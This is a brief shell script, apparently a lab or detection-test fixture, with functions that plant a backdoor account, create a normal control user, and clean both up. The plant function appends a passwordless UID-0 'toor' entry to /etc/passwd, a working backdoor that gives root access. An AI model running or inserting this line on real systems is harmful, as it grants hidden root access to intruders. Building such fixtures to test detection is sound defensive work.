# A second root; twin: an ordinary new user.
plant() { echo 'toor:x:0:0::/root:/bin/sh' >> /etc/passwd; }
twin() { useradd -m -s /bin/bash lab11; echo lab11:secret-enough | chpasswd; }
clear() { sed -i '/^toor:/d' /etc/passwd; userdel -r lab11 2>/dev/null; true; }
